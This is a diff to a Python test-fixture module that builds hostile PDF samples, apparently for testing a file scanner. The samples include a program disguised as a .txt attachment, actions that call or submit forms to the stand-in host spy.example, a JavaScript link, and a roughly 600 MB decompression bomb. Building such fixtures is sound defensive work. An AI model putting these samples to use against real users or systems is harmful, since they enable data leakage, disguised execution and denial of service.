@@ -102,17 +102,17 @@ def pdf_that_launches() -> bytes:
     return _pdf(change)
 
 
-def pdf_with_attachment(name: str = "ดูภาพ.exe") -> bytes:
-    """Return a PDF with a file attached."""
-    return _pdf(lambda pdf: pdf.attachments.__setitem__(name, _attached(pdf, name)))
+def pdf_with_attachment(name: str = "ดูภาพ.exe", content: bytes | None = None) -> bytes:
+    """Return a PDF with a file attached: a program, unless its content is given."""
+    return _pdf(lambda pdf: pdf.attachments.__setitem__(name, _attached(pdf, name, content)))
 
 
-def _attached(pdf: Any, name: str) -> Any:
+def _attached(pdf: Any, name: str, content: bytes | None = None) -> Any:
     from pikepdf import AttachedFileSpec
 
     return AttachedFileSpec(
         pdf,
-        make.program(),
+        make.program() if content is None else content,
         description="",
         filename=name,
         mime_type="application/octet-stream",
@@ -177,3 +177,81 @@ def page_and_pdf() -> bytes:
 def pdf_and_zip() -> bytes:
     """Return a PDF with an archive behind it."""
     return good.pdf(1) + make.plain_zip()
+
+
+def pdf_with_disguised_program(name: str = "อ่านก่อน.txt") -> bytes:
+    """Return a PDF with a program attached under the name of a text, packed as PDFs pack things."""
+
+    def change(pdf: Any) -> None:
+        pdf.attachments[name] = _attached(pdf, name)
+
+    return _pdf(change, compress_streams=True)
+
+
+def pdf_that_calls() -> bytes:
+    """Return a PDF that calls up an address as soon as it opens."""
+    return _pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", _action("URI", URI="https://spy.example/")))
+
+
+def pdf_that_sends_its_form() -> bytes:
+    """Return a PDF that sends what is in it when a page is shown."""
+    from pikepdf import Dictionary
+
+    action = _action("SubmitForm", F="https://spy.example/")
+    return _pdf(lambda pdf: pdf.pages[0].obj.__setattr__("AA", Dictionary(O=action)))
+
+
+def pdf_with_script_link() -> bytes:
+    """Return a PDF with a link that is a script."""
+    from pikepdf import Array, Dictionary, Name
+
+    def change(pdf: Any) -> None:
+        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]),
+                          A=_action("URI", URI="JavaScript:alert(1)"))  # fmt: skip
+        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
+
+    return _pdf(change)
+
+
+def pdf_that_opens_what_it_holds() -> bytes:
+    """Return a PDF that goes to another one inside it."""
+    return _pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", _action("GoToE", D=0)))
+
+
+def pdf_of_xfa() -> bytes:
+    """Return a PDF that is only the shell of an interactive form."""
+    from pikepdf import Array, Dictionary
+
+    def change(pdf: Any) -> None:
+        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
+
+    return _pdf(change)
+
+
+def pdf_with_film() -> bytes:
+    """Return a PDF with a piece of rich media on its page."""
+    from pikepdf import Array, Dictionary, Name
+
+    def change(pdf: Any) -> None:
+        film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
+        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(film)])
+
+    return _pdf(change)
+
+
+def pdf_bomb(unpacked: int = 600_000_000) -> bytes:
+    """Return a PDF whose page unpacks to much more than any page is: nothing to see from outside."""
+    import zlib
+
+    packer = zlib.compressobj()
+    zeros = b"q Q " * 250_000
+    packed = b"".join(packer.compress(zeros) for _ in range(unpacked // len(zeros))) + packer.flush()
+
+    def change(pdf: Any) -> None:
+        from pikepdf import Name
+
+        stream = pdf.make_stream(b"")
+        stream.write(packed, filter=Name.FlateDecode)
+        pdf.pages[0].obj.Contents = stream
+
+    return _pdf(change)
